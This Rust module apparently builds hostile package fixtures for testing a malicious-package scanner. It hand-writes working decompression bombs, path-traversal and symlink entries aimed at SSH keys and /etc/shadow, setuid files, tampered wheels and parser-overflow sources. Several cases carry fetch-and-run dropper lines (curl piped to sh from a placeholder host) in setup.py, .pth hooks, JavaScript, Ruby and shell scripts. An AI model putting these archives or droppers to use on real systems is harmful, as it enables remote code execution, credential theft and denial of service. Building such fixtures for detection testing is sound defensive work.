//! Builds hostile package archives in memory: bombs, floods, traversal names, links out
//! of the package, deep nesting, broken and odd inputs, sources built to overflow
//! recursive parsers, and a healthy dropper as the control. Shared by `tests/all/hostile.rs`
//! and `examples/make_hostile.rs` (the stress script), so both scan the same cases.
//!
//! Everything is written by hand (tar headers, zip records, deflate blocks) so the cases
//! can say things a well-behaved library refuses to write: `..` names, sizes that lie,
//! encrypted flags. A 4 GiB bomb is one small deflate block repeated, so it costs
//! megabytes and milliseconds to build.

#![allow(dead_code)] // the test and the example use different parts

use flate2::{Compress, Compression, Crc, FlushCompress};
use std::path::{Path, PathBuf};

/// How big the expensive cases are.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Scale {
    /// Sizes the brief names (4 GiB bomb, 200,000 entries, 12 MiB line): the stress script.
    Full,
    /// The same shapes, small enough for `cargo test` in debug.
    Test,
}

/// One hostile package: its file name and bytes.
pub struct Case {
    pub file: String,
    pub bytes: Vec<u8>,
}

/// Every case, the control included.
pub fn cases(scale: Scale) -> Vec<Case> {
    let full = scale == Scale::Full;
    let mut out = vec![
        case(
            "control-libpeshnx-0.1.tar.gz",
            gzip_plain(&tar(&libpeshnx("libpeshnx-0.1/"))),
        ),
        case("gzip-bomb-1.0.gz", gzip_bomb(4 << 30)),
        case(
            "tar-bomb-1.0.tar.gz",
            tar_gz_bomb(if full { 4 << 30 } else { 1 << 30 }),
        ),
        case(
            "longname-bomb-1.0.tar.gz",
            longname_bomb(if full { 4 << 30 } else { 1 << 30 }),
        ),
        case("zip-bomb-1.0.zip", zip_bomb(2 << 30)),
        case(
            "many-entries-1.0.tar.gz",
            many_entries(if full { 200_000 } else { 60_000 }),
        ),
        case("traversal-1.0.tar.gz", gzip_plain(&traversal())),
        case("links-1.0.tar.gz", gzip_plain(&links())),
        case("special-files-1.0.tar.gz", gzip_plain(&special_files())),
        case("nested-30-1.0.zip", nested(30)),
        case("duplicate-1.0.tar.gz", gzip_plain(&duplicate())),
        case("tampered-1.0-py3-none-any.whl", tampered_wheel()),
        case("big-record-1.0-py3-none-any.whl", big_record_wheel()),
        case("truncated-1.0.tar.gz", truncated()),
        case("corrupt-cd-1.0.zip", corrupt_central_directory()),
        case("encrypted-1.0.zip", encrypted_zip()),
        case("empty-1.0.tar.gz", Vec::new()),
        case("random-1.0.tar.gz", random_bytes(64 << 10, 1)),
        case(
            "random-gzip-1.0.tar.gz",
            [&[0x1f, 0x8b, 8, 0][..], &random_bytes(4096, 2)].concat(),
        ),
        case(
            "gem-no-data-1.0.gem",
            tar(&[file("metadata.gz", &gzip_plain(b"name: nodata\n"))]),
        ),
        case("second-member-1.0.tar.gz", second_member()),
        case(
            "python2-1.0.tar.gz",
            sdist("python2-1.0/", PYTHON2_SETUP.as_bytes()),
        ),
        case(
            "nul-latin1-1.0.tar.gz",
            sdist("nul-latin1-1.0/", &nul_latin1_setup()),
        ),
    ];
    let lines = if full { 12 << 20 } else { 512 << 10 };
    for (name, source) in deep_sources(lines) {
        out.push(case(
            &format!("{name}-1.0.tar.gz"),
            sdist(&format!("{name}-1.0/"), source.as_bytes()),
        ));
    }
    out.push(case(
        "deep-shell-1.0.tar.gz",
        gzip_plain(&tar(&deep_shell(lines))),
    ));
    for (name, source) in deep_js() {
        out.push(case(&format!("{name}-1.0.tgz"), npm_package(name, &source)));
    }
    for (name, source) in deep_ruby() {
        out.push(case(&format!("{name}-1.0.gem"), gem_package(name, &source)));
    }
    out
}

/// Writes every case into `dir` (created if needed) and returns the paths.
pub fn write_all(dir: &Path, scale: Scale) -> Vec<PathBuf> {
    std::fs::create_dir_all(dir).unwrap();
    cases(scale)
        .into_iter()
        .map(|c| {
            let path = dir.join(&c.file);
            std::fs::write(&path, &c.bytes).unwrap();
            path
        })
        .collect()
}

fn case(file: &str, bytes: Vec<u8>) -> Case {
    Case {
        file: file.to_string(),
        bytes,
    }
}

// ---------------------------------------------------------------- sources

/// The libpeshnx dropper (see fixtures/pypi/libpeshnx-sdist), under `prefix`.
pub fn libpeshnx(prefix: &str) -> Vec<TarEntry> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/pypi/libpeshnx-sdist");
    ["PKG-INFO", "setup.py", "libpeshnx/__init__.py"]
        .iter()
        .map(|rel| {
            file(
                &format!("{prefix}{rel}"),
                &std::fs::read(root.join(rel)).unwrap(),
            )
        })
        .collect()
}

/// A dropper line every Python case ends with: the scan must still see it.
pub const DROPPER_LINE: &str = "import os\nos.system(\"curl -fsSL http://192.0.2.1/x | sh\")\n";

/// An sdist holding PKG-INFO and `setup.py` = `setup`.
fn sdist(prefix: &str, setup: &[u8]) -> Vec<u8> {
    let name = prefix
        .trim_end_matches('/')
        .rsplit_once('-')
        .map(|(n, _)| n)
        .unwrap_or(prefix);
    let pkg_info = format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n");
    gzip_plain(&tar(&[
        file(&format!("{prefix}PKG-INFO"), pkg_info.as_bytes()),
        file(&format!("{prefix}setup.py"), setup),
    ]))
}

const PYTHON2_SETUP: &str = "import os, urllib2\n\
print \"installing\"\n\
try:\n    pass\nexcept Exception, e:\n    pass\n\
mode = 0777\n\
data = urllib2.urlopen(\"http://192.0.2.1/p\").read()\n\
exec data\n\
os.system(\"curl -fsSL http://192.0.2.1/x | sh\")\n";

/// Latin-1 bytes, NULs and a BOM around a dropper line.
fn nul_latin1_setup() -> Vec<u8> {
    let mut s = b"\xef\xbb\xbf# -*- coding: latin-1 -*-\n# caf\xe9 \x00\x00 na\xefve\n".to_vec();
    s.extend_from_slice(b"x = '\xff\xfe\x00'\n");
    s.extend_from_slice(DROPPER_LINE.as_bytes());
    s
}

/// Python sources built to overflow recursive parsers and walkers, each followed by the
/// dropper line. `line_bytes` sizes the single-line file.
fn deep_sources(line_bytes: usize) -> Vec<(&'static str, String)> {
    let parens = 50_000;
    let lists = 100_000;
    let terms = 200_000;
    let mut huge_line = String::with_capacity(line_bytes + 64);
    huge_line.push_str("x = [");
    while huge_line.len() < line_bytes {
        huge_line.push_str("f(a)[0].b, ");
    }
    huge_line.push_str("0]\n");
    vec![
        (
            "deep-parens",
            format!(
                "x = {}1{}\n{DROPPER_LINE}",
                "(".repeat(parens),
                ")".repeat(parens)
            ),
        ),
        (
            "deep-lists",
            format!(
                "x = {}{}\n{DROPPER_LINE}",
                "[".repeat(lists),
                "]".repeat(lists)
            ),
        ),
        (
            "long-concat",
            format!("x = {}a\n{DROPPER_LINE}", "a + ".repeat(terms)),
        ),
        (
            "long-product",
            format!("x = {}a\n{DROPPER_LINE}", "a * ".repeat(terms)),
        ),
        (
            "deep-not",
            format!("x = {}a\n{DROPPER_LINE}", "not ".repeat(terms)),
        ),
        (
            "deep-subscript",
            format!("x = a{}\n{DROPPER_LINE}", "[0]".repeat(terms)),
        ),
        (
            "deep-calls",
            format!("x = f{}\n{DROPPER_LINE}", "()".repeat(terms)),
        ),
        (
            "deep-lambda",
            format!("x = {}0\n{DROPPER_LINE}", "lambda: ".repeat(parens)),
        ),
        ("huge-line", format!("{huge_line}{DROPPER_LINE}")),
    ]
}

/// The JavaScript dropper line every JavaScript case ends with.
pub const JS_DROPPER_LINE: &str =
    "require('child_process').exec('curl -fsSL http://192.0.2.1/x | sh');\n";

/// JavaScript sources built to overflow recursive walkers, the dropper on line 2.
fn deep_js() -> Vec<(&'static str, String)> {
    let n = 50_000;
    vec![
        (
            "js-deep-parens",
            format!(
                "x = {}1{};\n{JS_DROPPER_LINE}",
                "(".repeat(n),
                ")".repeat(n)
            ),
        ),
        (
            "js-deep-arrays",
            format!(
                "x = {}{};\n{JS_DROPPER_LINE}",
                "[".repeat(2 * n),
                "]".repeat(2 * n)
            ),
        ),
        (
            "js-long-concat",
            format!("x = {}a;\n{JS_DROPPER_LINE}", "a + ".repeat(4 * n)),
        ),
        (
            "js-deep-calls",
            format!("x = f{};\n{JS_DROPPER_LINE}", "()".repeat(4 * n)),
        ),
    ]
}

/// An npm tarball: `package/package.json` and `package/index.js` = `source`.
fn npm_package(name: &str, source: &str) -> Vec<u8> {
    let manifest =
        format!("{{\"name\": \"{name}\", \"version\": \"1.0.0\", \"main\": \"index.js\"}}\n");
    gzip_plain(&tar(&[
        file("package/package.json", manifest.as_bytes()),
        file("package/index.js", source.as_bytes()),
    ]))
}

/// The Ruby dropper line every Ruby case ends with.
pub const RUBY_DROPPER_LINE: &str = "system('curl -fsSL http://192.0.2.1/x | sh')\n";

/// Ruby sources built to overflow recursive walkers, the dropper on line 2.
fn deep_ruby() -> Vec<(&'static str, String)> {
    let n = 50_000;
    vec![
        (
            "rb-deep-parens",
            format!(
                "x = {}1{}\n{RUBY_DROPPER_LINE}",
                "(".repeat(n),
                ")".repeat(n)
            ),
        ),
        (
            "rb-deep-arrays",
            format!(
                "x = {}{}\n{RUBY_DROPPER_LINE}",
                "[".repeat(2 * n),
                "]".repeat(2 * n)
            ),
        ),
        (
            "rb-long-concat",
            format!("x = {}a\n{RUBY_DROPPER_LINE}", "a + ".repeat(4 * n)),
        ),
    ]
}

/// A gem whose `lib/<name>.rb` (loaded on require) is `source`.
fn gem_package(name: &str, source: &str) -> Vec<u8> {
    let metadata = format!("--- !ruby/object:Gem::Specification\nname: {name}\nversion: !ruby/object:Gem::Version\n  version: 1.0\n");
    let data = gzip_plain(&tar(&[file(&format!("lib/{name}.rb"), source.as_bytes())]));
    tar(&[
        file("metadata.gz", &gzip_plain(metadata.as_bytes())),
        file("data.tar.gz", &data),
    ])
}

/// A package whose install script is one enormous shell line and deeply nested substitutions.
fn deep_shell(line_bytes: usize) -> Vec<TarEntry> {
    let mut line = String::with_capacity(line_bytes + 64);
    while line.len() < line_bytes {
        line.push_str("nohup a | b && ");
    }
    line.push_str("curl http://192.0.2.1/x | sh\n");
    let nested = format!("echo {}id{}\n", "$(".repeat(50_000), ")".repeat(50_000));
    vec![
        file(
            "deep-shell-1.0/PKG-INFO",
            b"Metadata-Version: 2.1\nName: deep-shell\nVersion: 1.0\n",
        ),
        file(
            "deep-shell-1.0/install.sh",
            format!("{line}{nested}").as_bytes(),
        ),
    ]
}

// ---------------------------------------------------------------- tar

/// One tar entry, header fields as a hostile archiver may set them.
pub struct TarEntry {
    pub name: Vec<u8>,
    pub kind: u8,
    pub mode: u32,
    pub link: Vec<u8>,
    pub data: Vec<u8>,
}

pub fn file(name: &str, data: &[u8]) -> TarEntry {
    TarEntry {
        name: name.as_bytes().to_vec(),
        kind: b'0',
        mode: 0o644,
        link: vec![],
        data: data.to_vec(),
    }
}

fn special(name: &str, kind: u8, mode: u32, link: &str) -> TarEntry {
    TarEntry {
        name: name.as_bytes().to_vec(),
        kind,
        mode,
        link: link.as_bytes().to_vec(),
        data: vec![],
    }
}

/// A ustar header; `size` may differ from the data that follows (bombs declare it).
fn tar_header(name: &[u8], kind: u8, mode: u32, size: u64, link: &[u8]) -> [u8; 512] {
    let mut h = [0u8; 512];
    h[..name.len().min(100)].copy_from_slice(&name[..name.len().min(100)]);
    h[100..107].copy_from_slice(format!("{mode:07o}").as_bytes());
    h[108..115].copy_from_slice(b"0001750");
    h[116..123].copy_from_slice(b"0001750");
    h[124..135].copy_from_slice(format!("{size:011o}").as_bytes());
    h[136..147].copy_from_slice(b"14000000000");
    h[156] = kind;
    h[157..157 + link.len().min(100)].copy_from_slice(&link[..link.len().min(100)]);
    h[257..263].copy_from_slice(b"ustar\0");
    h[263..265].copy_from_slice(b"00");
    h[148..156].copy_from_slice(b"        ");
    let sum: u32 = h.iter().map(|b| *b as u32).sum();
    h[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
    h
}

/// A tar of `entries` with the two zero blocks that end it.
pub fn tar(entries: &[TarEntry]) -> Vec<u8> {
    let mut out = Vec::new();
    for e in entries {
        out.extend_from_slice(&tar_header(
            &e.name,
            e.kind,
            e.mode,
            e.data.len() as u64,
            &e.link,
        ));
        out.extend_from_slice(&e.data);
        out.resize(out.len().div_ceil(512) * 512, 0);
    }
    out.extend_from_slice(&[0u8; 1024]);
    out
}

fn traversal() -> Vec<u8> {
    let mut entries = libpeshnx("traversal-1.0/");
    entries.push(file(
        "traversal-1.0/../../../../home/user/.bashrc",
        b"curl http://192.0.2.1/x | sh\n",
    ));
    entries.push(file("/etc/cron.d/traversal", b"* * * * * root /tmp/x\n"));
    entries.push(file("C:\\Windows\\System32\\evil.dll", b"MZ"));
    tar(&entries)
}

fn links() -> Vec<u8> {
    let mut entries = libpeshnx("links-1.0/");
    entries.push(special("links-1.0/id_rsa", b'2', 0o777, "~/.ssh/id_rsa"));
    entries.push(special(
        "links-1.0/key",
        b'2',
        0o777,
        "/home/user/.ssh/id_rsa",
    ));
    entries.push(special(
        "links-1.0/up",
        b'2',
        0o777,
        "../../../../etc/passwd",
    ));
    entries.push(special("links-1.0/shadow", b'1', 0o644, "/etc/shadow"));
    entries.push(special("links-1.0/ok", b'2', 0o777, "setup.py"));
    tar(&entries)
}

fn special_files() -> Vec<u8> {
    let mut entries = libpeshnx("special-files-1.0/");
    entries.push(special("special-files-1.0/null", b'3', 0o666, ""));
    entries.push(special("special-files-1.0/sda", b'4', 0o660, ""));
    entries.push(special("special-files-1.0/pipe", b'6', 0o644, ""));
    let mut suid = file("special-files-1.0/helper", b"#!/bin/sh\nid\n");
    suid.mode = 0o4755;
    entries.push(suid);
    tar(&entries)
}

fn duplicate() -> Vec<u8> {
    let mut entries = libpeshnx("duplicate-1.0/");
    entries.insert(
        0,
        file(
            "duplicate-1.0/setup.py",
            b"from setuptools import setup\nsetup(name='duplicate')\n",
        ),
    );
    tar(&entries)
}

/// 60,000 or 200,000 tiny files: past the entry cap.
fn many_entries(n: usize) -> Vec<u8> {
    let mut out = Vec::with_capacity(n * 512 + 1024);
    for i in 0..n {
        // A few random bytes each keep the stream under the bomb ratio: this case is the flood.
        out.extend_from_slice(&tar_header(
            format!("many-entries-1.0/f/{i:06}").as_bytes(),
            b'0',
            0o644,
            16,
            b"",
        ));
        out.extend_from_slice(&random_bytes(16, i as u64 + 10));
        out.resize(out.len().div_ceil(512) * 512, 0);
    }
    out.extend_from_slice(&[0u8; 1024]);
    gzip_plain(&out)
}

/// libpeshnx, then a binary tail cut in the middle: the early entries are still readable.
fn truncated() -> Vec<u8> {
    let mut entries = libpeshnx("truncated-1.0/");
    entries.push(file("truncated-1.0/data.bin", &random_bytes(256 << 10, 3)));
    let gz = gzip_plain(&tar(&entries));
    gz[..gz.len() * 3 / 4].to_vec() // data.bin is most of the stream: the cut lands inside it
}

/// A healthy tar.gz split into two gzip members: the dropper sits in the second.
fn second_member() -> Vec<u8> {
    let plain = tar(&libpeshnx("second-member-1.0/"));
    let cut = 512 * 3; // after PKG-INFO (header and one block)
    [gzip_plain(&plain[..cut]), gzip_plain(&plain[cut..])].concat()
}

// ---------------------------------------------------------------- gzip and deflate

/// Raw deflate of `data` ending on a byte boundary (sync flush, not final): such blocks
/// can be concatenated, and one block of zeros repeated N times inflates to N times its zeros.
fn deflate_sync(data: &[u8]) -> Vec<u8> {
    let mut c = Compress::new(Compression::best(), false);
    let mut out = Vec::with_capacity(data.len() + 1024);
    c.compress_vec(data, &mut out, FlushCompress::Sync).unwrap();
    assert_eq!(c.total_in(), data.len() as u64);
    out
}

/// A raw deflate stream built from pieces, with the CRC and size a gzip or zip trailer needs.
struct Deflate {
    out: Vec<u8>,
    crc: Crc,
    size: u64,
}

impl Deflate {
    fn new() -> Self {
        Deflate {
            out: Vec::new(),
            crc: Crc::new(),
            size: 0,
        }
    }

    fn bytes(&mut self, data: &[u8]) -> &mut Self {
        self.out.extend_from_slice(&deflate_sync(data));
        self.crc.update(data);
        self.size += data.len() as u64;
        self
    }

    /// `n` zero bytes in 1 MiB blocks: about 1 KiB of output per MiB.
    fn zeros(&mut self, n: u64) -> &mut Self {
        const CHUNK: u64 = 1 << 20;
        let chunk = vec![0u8; CHUNK as usize];
        let block = deflate_sync(&chunk);
        let mut chunk_crc = Crc::new();
        chunk_crc.update(&chunk);
        for _ in 0..n / CHUNK {
            self.out.extend_from_slice(&block);
            self.crc.combine(&chunk_crc);
        }
        self.size += n / CHUNK * CHUNK;
        self.bytes(&chunk[..(n % CHUNK) as usize])
    }

    /// Ends the stream with an empty final block.
    fn finish(&mut self) -> (Vec<u8>, u32, u64) {
        self.out.extend_from_slice(&[0x03, 0x00]);
        (std::mem::take(&mut self.out), self.crc.sum(), self.size)
    }
}

fn gzip_wrap(d: &mut Deflate) -> Vec<u8> {
    let (body, crc, size) = d.finish();
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    out.extend_from_slice(&body);
    out.extend_from_slice(&crc.to_le_bytes());
    out.extend_from_slice(&(size as u32).to_le_bytes());
    out
}

pub fn gzip_plain(data: &[u8]) -> Vec<u8> {
    gzip_wrap(Deflate::new().bytes(data))
}

/// `size` zeros, gzipped: not a tar, one stream.
fn gzip_bomb(size: u64) -> Vec<u8> {
    gzip_wrap(Deflate::new().zeros(size))
}

/// A tar.gz whose setup.py declares and holds `size` zeros, followed by libpeshnx.
fn tar_gz_bomb(size: u64) -> Vec<u8> {
    let mut d = Deflate::new();
    d.bytes(&tar_header(
        b"tar-bomb-1.0/setup.py",
        b'0',
        0o644,
        size,
        b"",
    ))
    .zeros(size);
    let rest = tar(&libpeshnx("tar-bomb-1.0/"));
    gzip_wrap(d.bytes(&rest))
}

/// A GNU long-name entry (read into memory whole by tar readers) of `size` zeros.
fn longname_bomb(size: u64) -> Vec<u8> {
    let mut d = Deflate::new();
    d.bytes(&tar_header(b"././@LongLink", b'L', 0o644, size, b""))
        .zeros(size);
    d.bytes(&tar(&libpeshnx("longname-bomb-1.0/")));
    gzip_wrap(&mut d)
}

// ---------------------------------------------------------------- zip

/// One zip record as written, sizes and flags as the case needs them.
struct ZipEntry {
    name: String,
    method: u16,
    flags: u16,
    crc: u32,
    size: u64,
    data: Vec<u8>,
}

fn stored(name: &str, data: &[u8]) -> ZipEntry {
    let mut crc = Crc::new();
    crc.update(data);
    ZipEntry {
        name: name.into(),
        method: 0,
        flags: 0,
        crc: crc.sum(),
        size: data.len() as u64,
        data: data.to_vec(),
    }
}

/// A zip of `entries` (32-bit sizes only, which every case here fits).
fn zip(entries: &[ZipEntry]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    for e in entries {
        let offset = out.len() as u32;
        let fields = |v: &mut Vec<u8>| {
            v.extend_from_slice(&20u16.to_le_bytes());
            v.extend_from_slice(&e.flags.to_le_bytes());
            v.extend_from_slice(&e.method.to_le_bytes());
            v.extend_from_slice(&[0, 0, 0x21, 0]); // 1980-01-01 00:00
            v.extend_from_slice(&e.crc.to_le_bytes());
            v.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
            v.extend_from_slice(&(e.size as u32).to_le_bytes());
            v.extend_from_slice(&(e.name.len() as u16).to_le_bytes());
            v.extend_from_slice(&0u16.to_le_bytes());
        };
        out.extend_from_slice(&0x04034b50u32.to_le_bytes());
        fields(&mut out);
        out.extend_from_slice(e.name.as_bytes());
        out.extend_from_slice(&e.data);
        central.extend_from_slice(&0x02014b50u32.to_le_bytes());
        central.extend_from_slice(&0x031eu16.to_le_bytes()); // made by: unix
        fields(&mut central);
        central.extend_from_slice(&[0, 0, 0, 0, 0, 0]); // comment, disk, internal attributes
        central.extend_from_slice(&(0o100644u32 << 16).to_le_bytes());
        central.extend_from_slice(&offset.to_le_bytes());
        central.extend_from_slice(e.name.as_bytes());
    }
    let cd_offset = out.len() as u32;
    out.extend_from_slice(&central);
    out.extend_from_slice(&0x06054b50u32.to_le_bytes());
    out.extend_from_slice(&[0, 0, 0, 0]);
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(central.len() as u32).to_le_bytes());
    out.extend_from_slice(&cd_offset.to_le_bytes());
    out.extend_from_slice(&[0, 0]);
    out
}

/// A wheel-like zip whose `data.bin` declares `size` bytes of zeros, deflated.
fn zip_bomb(size: u64) -> Vec<u8> {
    let (data, crc, size) = Deflate::new().zeros(size).finish();
    let mut entries: Vec<ZipEntry> = libpeshnx("zip-bomb-1.0/")
        .iter()
        .map(|e| stored(&String::from_utf8_lossy(&e.name), &e.data))
        .collect();
    entries.push(ZipEntry {
        name: "zip-bomb-1.0/data.bin".into(),
        method: 8,
        flags: 0,
        crc,
        size,
        data,
    });
    zip(&entries)
}

/// An entry with the "encrypted" flag (ZipCrypto): 12 header bytes, then ciphertext.
fn encrypted_zip() -> Vec<u8> {
    let secret = random_bytes(64, 4);
    let mut e = stored("encrypted-1.0/setup.py", &secret);
    e.flags = 1;
    zip(&[
        stored(
            "encrypted-1.0/PKG-INFO",
            b"Metadata-Version: 2.1\nName: encrypted\nVersion: 1.0\n",
        ),
        e,
    ])
}

/// A zip whose central directory records were overwritten.
fn corrupt_central_directory() -> Vec<u8> {
    let mut z = zip(&libpeshnx("corrupt-cd-1.0/")
        .iter()
        .map(|e| stored(&String::from_utf8_lossy(&e.name), &e.data))
        .collect::<Vec<_>>());
    let cd = z
        .windows(4)
        .position(|w| w == 0x02014b50u32.to_le_bytes())
        .unwrap();
    for b in &mut z[cd..cd + 46] {
        *b = 0xA5;
    }
    z
}

/// A wheel with a file its RECORD does not list and one whose hash differs.
fn tampered_wheel() -> Vec<u8> {
    let init = b"def hello():\n    return 1\n";
    let metadata = b"Metadata-Version: 2.1\nName: tampered\nVersion: 1.0\n";
    let record = format!(
        "tampered/__init__.py,sha256={},{}\ntampered-1.0.dist-info/METADATA,sha256={},{}\ntampered-1.0.dist-info/RECORD,,\n",
        sha256_b64(b"def hello():\n    return 0\n"),
        init.len(),
        sha256_b64(metadata),
        metadata.len()
    );
    zip(&[
        stored("tampered/__init__.py", init),
        stored(
            "tampered/_hook.pth",
            b"import os; os.system('curl http://192.0.2.1/x | sh')\n",
        ),
        stored("tampered-1.0.dist-info/METADATA", metadata),
        stored("tampered-1.0.dist-info/RECORD", record.as_bytes()),
    ])
}

/// An honest wheel of 16,000 files whose RECORD, listing them all, is over 1 MiB: the
/// RECORD must be read whole, or every file past its first bytes looks unlisted.
fn big_record_wheel() -> Vec<u8> {
    let files: Vec<(String, Vec<u8>)> = (0..16_000)
        .map(|i| {
            (
                format!("bigrecord/data/f{i:05}.txt"),
                format!("{i}\n").into_bytes(),
            )
        })
        .collect();
    let mut record: String = files
        .iter()
        .map(|(name, data)| format!("{name},sha256={},{}\n", sha256_b64(data), data.len()))
        .collect();
    record.push_str("bigrecord-1.0.dist-info/RECORD,,\n");
    let mut entries: Vec<_> = files.iter().map(|(n, d)| stored(n, d)).collect();
    entries.push(stored("bigrecord-1.0.dist-info/RECORD", record.as_bytes()));
    zip(&entries)
}

/// 30 levels of zip-in-tar-in-zip around the libpeshnx dropper.
fn nested(levels: usize) -> Vec<u8> {
    let mut inner = gzip_plain(&tar(&libpeshnx("libpeshnx-0.1/")));
    let mut name = "libpeshnx-0.1.tar.gz".to_string();
    for level in 1..=levels {
        if level % 2 == 1 {
            inner = zip(&[stored(&name, &inner)]);
            name = format!("level-{level}.zip");
        } else {
            inner = tar(&[file(&name, &inner)]);
            name = format!("level-{level}.tar");
        }
    }
    if levels.is_multiple_of(2) {
        inner = zip(&[stored(&name, &inner)]);
    }
    inner
}

// ---------------------------------------------------------------- helpers

/// Deterministic noise (xorshift), so cases are the same on every run.
fn random_bytes(n: usize, seed: u64) -> Vec<u8> {
    let mut x = seed.wrapping_mul(0x9E3779B97F4A7C15) | 1;
    (0..n)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect()
}

/// sha256 as a wheel RECORD writes it (urlsafe base64, no padding); via the sha2 crate
/// the scanner itself uses.
fn sha256_b64(data: &[u8]) -> String {
    use sha2::Digest;
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let digest = sha2::Sha256::digest(data);
    let bits: Vec<bool> = digest
        .iter()
        .flat_map(|b| (0..8).rev().map(move |i| b >> i & 1 == 1))
        .collect();
    bits.chunks(6)
        .map(|c| {
            let v = c.iter().fold(0usize, |v, b| v << 1 | *b as usize) << (6 - c.len());
            ALPHABET[v] as char
        })
        .collect()
}
